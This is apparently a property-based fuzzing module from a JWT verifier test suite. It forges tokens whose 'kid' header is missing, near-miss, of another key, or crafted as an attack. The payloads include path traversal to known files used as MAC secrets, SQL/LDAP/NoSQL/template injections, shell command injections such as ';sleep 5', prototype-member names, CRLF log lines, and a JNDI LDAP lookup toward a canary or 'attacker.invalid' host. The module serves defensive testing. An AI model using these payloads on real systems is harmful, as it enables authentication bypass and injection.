/**
 * Tokens that nobody signed, whose key id names no key of the issuer, or another, or is written for whatever the id is
 * looked up with: a file system, a database, an object of the language.
 *
 * @see RFC 7515, sections 4.1.4, 5.2 and 6; RFC 8725, sections 3.8 and 3.10
 */
import fc from 'fast-check'
import type { JwtDraft, JwtRow, JwtScene } from '../../../../fixtures/fuzzing/jwt/draft.ts'
import type { Json } from '../../../../fixtures/fuzzing/model.ts'
import { forgery } from './forgery.ts'
import {
  attackerSeal,
  BITS,
  type Bits,
  mac,
  partOf,
  publishedKeysFor,
  unsealed,
  withClaims,
  withHeader,
} from './making.ts'

/** What a token under no key is sealed with: as a lookup that fails would have it. */
const SEALS = {
  kept: (draft) => ({ ...draft, seal: 'kept' }),
  'empty-mac': (draft) => ({ ...withHeader(draft, { alg: 'HS256' }), seal: mac('') }),
  'undefined-mac': (draft) => ({ ...withHeader(draft, { alg: 'HS256' }), seal: mac('undefined') }),
  'null-mac': (draft) => ({ ...withHeader(draft, { alg: 'HS256' }), seal: mac('null') }),
  attacker: (draft, scene) => ({ ...withHeader(draft, { alg: 'RS256' }), seal: attackerSeal(scene) }),
  none: (draft) => ({ ...withHeader(draft, { alg: 'none' }), seal: unsealed }),
} as const satisfies Readonly<Record<string, (draft: JwtDraft, scene: JwtScene) => JwtDraft>>
type SealName = keyof typeof SEALS
const SEAL_NAMES = Object.keys(SEALS) as readonly SealName[]
const seals = fc.constantFrom<SealName>(...SEAL_NAMES)

const sealed = (draft: JwtDraft, seal: string, scene: JwtScene): JwtDraft =>
  SEALS[seal as SealName](draft, scene)

const kidOf = ({ header }: JwtDraft): string | undefined => {
  const kid = header.get('kid')
  return typeof kid === 'string' ? kid : undefined
}

/** Digits to digits, letters to letters of the same case: an id of the same alphabet and length. */
const rotated = (kid: string, by: number): string =>
  kid.replaceAll(/[0-9A-Za-z]/g, (one) => {
    const [first, size] = one <= '9' ? [48, 10] : one <= 'Z' ? [65, 26] : [97, 26]
    return String.fromCharCode(first + ((one.charCodeAt(0) - first + by) % size))
  })

/** One step from the right id. Those that do not change a given id change nothing, and are not sent. */
const NEAR: Readonly<Record<string, (kid: string) => string>> = {
  'other-case': (kid) =>
    kid.replaceAll(/[A-Za-z]/g, (one) => (one < 'a' ? one.toLowerCase() : one.toUpperCase())),
  'upper-case': (kid) => kid.toUpperCase(),
  'lower-case': (kid) => kid.toLowerCase(),
  shorter: (kid) => kid.slice(0, -1),
  longer: (kid) => `${kid}A`,
  prefix: (kid) => kid.slice(0, Math.ceil(kid.length / 2)),
  'padding-doubled': (kid) => `${kid}=`,
  'space-after': (kid) => `${kid} `,
  'space-before': (kid) => ` ${kid}`,
  'newline-after': (kid) => `${kid}\n`,
  'nul-after': (kid) => `${kid}\0`,
  'percent-encoded': (kid) =>
    `%${kid.charCodeAt(0).toString(16).padStart(2, '0')}${encodeURIComponent(kid.slice(1))}`,
  'plus-as-space': (kid) => kid.replaceAll('+', ' '),
}

/** Files that everybody knows the bytes of. */
const FILES: readonly (readonly [path: string, secret: string])[] = [
  ['/dev/null', ''],
  ['/proc/sys/kernel/randomize_va_space', '2\n'],
]

const CLIMBS = ['../', '..\\', '%2e%2e/', '....//'] as const

/** What is harmless wherever it lands: it asks, compares, prints. */
const INJECTIONS: readonly (readonly [kid: string, secret: string])[] = [
  ["' UNION SELECT 'k' -- ", 'k'],
  ["' OR '1'='1", ''],
  ['" OR ""="', ''],
  ["x' UNION SELECT 'k", 'k'],
  ['*)(uid=*', ''],
  ['{"$ne":null}', ''],
  ['{{7*7}}', ''],
  [`\${7*7}`, ''],
  ['%s%n', ''],
]

/** What acts where it lands. */
const COMMANDS = ['|id', ';sleep 5', '$(sleep 5)', '`sleep 5`', "'; SELECT pg_sleep(5) -- "] as const

const INTERNALS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
  'keys',
  '0',
] as const

/** What such a member is once somebody makes a text of it. */
const PRINTED = [
  '',
  'undefined',
  'function Object() { [native code] }',
  '[object Object]',
  'null',
  '0',
] as const

const LOG_LINES = [
  'x\r\nSet-Cookie: session=forged',
  'x\r\n2026-11-01T00:00:00Z INFO token accepted',
  '\u001b[2J\u001b[31mx',
] as const

const withKid = (draft: JwtDraft, kid: Json, secret: string, size: Bits = 256): JwtDraft => ({
  ...withHeader(draft, { alg: `HS${size}`, kid }),
  seal: mac(secret, size),
})

export const keyIdRows: readonly JwtRow[] = [
  forgery({
    id: 'key-id-absent',
    says: 'There is no key id',
    class: 'key-id',
    sweep: [{ seal: 'kept' }, { seal: 'empty-mac' }, { seal: 'attacker' }, { seal: 'none' }],
    parameter: fc.record({ seal: seals }),
    apply: (draft, { seal }, scene) => sealed(withHeader(draft, { kid: undefined }), seal, scene),
  }),
  forgery({
    id: 'key-id-unknown',
    says: 'The key id is of the right length and alphabet, and nobody’s',
    class: 'key-id',
    sweep: SEAL_NAMES.map((seal) => ({ seal: seal as string, by: 1 })) as [{ seal: string; by: number }],
    // Modulo 26 and modulo 10 none of these is nothing.
    parameter: fc.record({ seal: seals, by: fc.integer({ min: 1, max: 9 }) }),
    apply: (draft, { seal, by }, scene) =>
      sealed(withHeader(draft, { kid: rotated(kidOf(draft) ?? 'unknown', by) }), seal, scene),
  }),
  forgery<{ readonly kid: Json; readonly wrapped: boolean; readonly seal: SealName }>({
    id: 'key-id-of-wrong-type',
    says: 'The key id is empty or no string, or the right one in an array or object',
    class: 'key-id',
    sweep: [
      { kid: '', wrapped: false, seal: 'kept' },
      { kid: null, wrapped: false, seal: 'empty-mac' },
      { kid: 0, wrapped: false, seal: 'kept' },
      { kid: true, wrapped: false, seal: 'kept' },
      { kid: [], wrapped: true, seal: 'kept' },
      { kid: {}, wrapped: true, seal: 'kept' },
    ],
    parameter: fc
      .tuple(fc.constantFrom<Json>('', null, 0, 1.5, true, false, [], {}), fc.boolean(), seals)
      .map(
        ([kid, wrapped, seal]) => ({
          kid,
          wrapped: wrapped && typeof kid === 'object' && kid !== null,
          seal,
        }),
        (made) => {
          const { kid, wrapped, seal } = made as { kid: Json; wrapped: boolean; seal: SealName }
          return [kid, wrapped, seal]
        },
      ),
    apply: (draft, { kid, wrapped, seal }, scene) => {
      const right = draft.header.get('kid') ?? null
      const value = wrapped ? (Array.isArray(kid) ? [right] : { kid: right }) : kid
      return sealed(withHeader(draft, { kid: value }), seal, scene)
    },
  }),
  forgery({
    id: 'key-id-of-other-key',
    says: 'The key id is that of another published key; the signature is that of the base',
    class: 'key-id',
    unless: (scene) =>
      publishedKeysFor(scene).length < 2 ? 'the issuer publishes no second key' : undefined,
    sweep: [{ key: 1 }],
    parameter: fc.record({ key: fc.integer({ min: 1, max: 4 }) }),
    apply: (draft, { key }, scene) => {
      const others = publishedKeysFor(scene)
        .map(({ jwk }) => jwk['kid'])
        .filter((kid) => kid !== undefined && kid !== draft.header.get('kid'))
      const kid = others[(key - 1) % Math.max(1, others.length)]
      return kid === undefined ? undefined : withHeader(draft, { kid })
    },
  }),
  forgery({
    id: 'other-pool-under-own-key-id',
    says: 'A token of another pool, whose key id was replaced by the one that is expected',
    class: 'key-id',
    unless: ({ others }) =>
      others['other-pool'] === undefined ? 'there is no token of another pool' : undefined,
    sweep: [{ issuer: 'theirs' }, { issuer: 'ours' }],
    parameter: fc.record({ issuer: fc.constantFrom('theirs', 'ours') }),
    apply: (draft, { issuer }, scene) => {
      const token = scene.others['other-pool']
      const [header, claims] = [partOf(token, 0), partOf(token, 1)]
      if (header === undefined || claims === undefined) return undefined
      const signature = Buffer.from(token?.split('.')[2] ?? '', 'base64url')
      const iss = issuer === 'ours' ? scene.issuer : claims['iss']
      return {
        ...withClaims(withHeader(draft, { ...header, kid: draft.header.get('kid') }), { ...claims, iss }),
        seal: () => signature,
      }
    },
  }),
  forgery({
    id: 'key-id-nearly-right',
    says: 'The key id differs from the right one in case, length, padding, white space or encoding',
    class: 'key-id',
    sweep: ['other-case', 'shorter', 'padding-doubled', 'space-after', 'nul-after', 'percent-encoded'].map(
      (spelling) => ({ spelling, seal: 'kept' }),
    ) as [{ spelling: string; seal: string }],
    parameter: fc.record({ spelling: fc.constantFrom(...Object.keys(NEAR)), seal: seals }),
    apply: (draft, { spelling, seal }, scene) => {
      const right = kidOf(draft)
      const kid = right === undefined ? undefined : NEAR[spelling]?.(right)
      return kid === undefined || kid === right ? undefined : sealed(withHeader(draft, { kid }), seal, scene)
    },
  }),
  forgery({
    id: 'key-id-names-file',
    says: 'The key id leads to a file whose bytes everybody knows, and they are the secret of a MAC',
    class: 'key-id',
    sweep: [
      { file: 0, climb: '../', depth: 8 },
      { file: 0, climb: '', depth: 0 },
      { file: 1, climb: '../', depth: 8 },
      { file: 0, climb: '%2e%2e/', depth: 8 },
      { file: 0, climb: 'file://', depth: 1 },
    ],
    parameter: fc.oneof(
      fc.record({
        file: fc.nat(1),
        climb: fc.constantFrom<string>(...CLIMBS),
        depth: fc.integer({ min: 1, max: 12 }),
      }),
      fc.record({ file: fc.nat(1), climb: fc.constantFrom('', 'file://'), depth: fc.constant(1) }),
    ),
    apply: (draft, { file, climb, depth }) => {
      const [path, secret] = FILES[file] ?? FILES[0]!
      const climbing = (CLIMBS as readonly string[]).includes(climb)
      return withKid(draft, `${climb.repeat(depth)}${climbing ? path.slice(1) : path}`, secret)
    },
  }),
  forgery({
    id: 'key-id-injected',
    says: 'The key id is written for the query, filter or template that it is put into',
    class: 'key-id',
    sweep: INJECTIONS.map((_, injection) => ({ injection })) as [{ injection: number }],
    parameter: fc.record({ injection: fc.nat(INJECTIONS.length - 1) }),
    apply: (draft, { injection }) => {
      const [kid, secret] = INJECTIONS[injection] ?? INJECTIONS[0]!
      return withKid(draft, kid, secret)
    },
  }),
  forgery({
    id: 'key-id-commands',
    says: 'The key id is a command that makes whoever runs it late',
    class: 'key-id',
    exhausts: true,
    sweep: COMMANDS.map((kid) => ({ kid })) as unknown as [{ kid: string }],
    parameter: fc.record({ kid: fc.constantFrom<string>(...COMMANDS) }),
    apply: (draft, { kid }) => withHeader(draft, { kid }),
  }),
  forgery({
    id: 'key-id-of-prototype',
    says: 'The key id is a name that every object of the language has; what is found there is the secret of a MAC',
    class: 'key-id',
    sweep: [
      { kid: '__proto__', secret: '', alg: 'HS256' },
      { kid: 'constructor', secret: 'function Object() { [native code] }', alg: 'HS256' },
      { kid: 'toString', secret: 'undefined', alg: 'HS256' },
      { kid: 'hasOwnProperty', secret: '', alg: 'none' },
      { kid: '0', secret: '', alg: 'HS256' },
    ],
    parameter: fc.record({
      kid: fc.constantFrom<string>(...INTERNALS),
      secret: fc.constantFrom<string>(...PRINTED),
      alg: fc.constantFrom('HS256', 'none', ...BITS.slice(1).map((bits) => `HS${bits}`)),
    }),
    apply: (draft, { kid, secret, alg }) =>
      alg === 'none'
        ? { ...withHeader(draft, { alg, kid }), seal: unsealed }
        : withKid(draft, kid, secret, Number(alg.slice(2)) as Bits),
  }),
  forgery({
    id: 'key-id-for-logs',
    says: 'The key id holds line ends, terminal controls or a lookup, for whoever writes it down',
    class: 'key-id',
    sweep: [...LOG_LINES, 'lookup'].map((line) => ({ line })) as [{ line: string }],
    parameter: fc.record({ line: fc.constantFrom<string>(...LOG_LINES, 'lookup') }),
    apply: (draft, { line }, { canary }) => {
      const address = canary?.('/lookup').replace(/^\w+:\/\//, '') ?? 'attacker.invalid/lookup'
      return withHeader(draft, { kid: line === 'lookup' ? `\${jndi:ldap://${address}}` : line })
    },
  }),
]
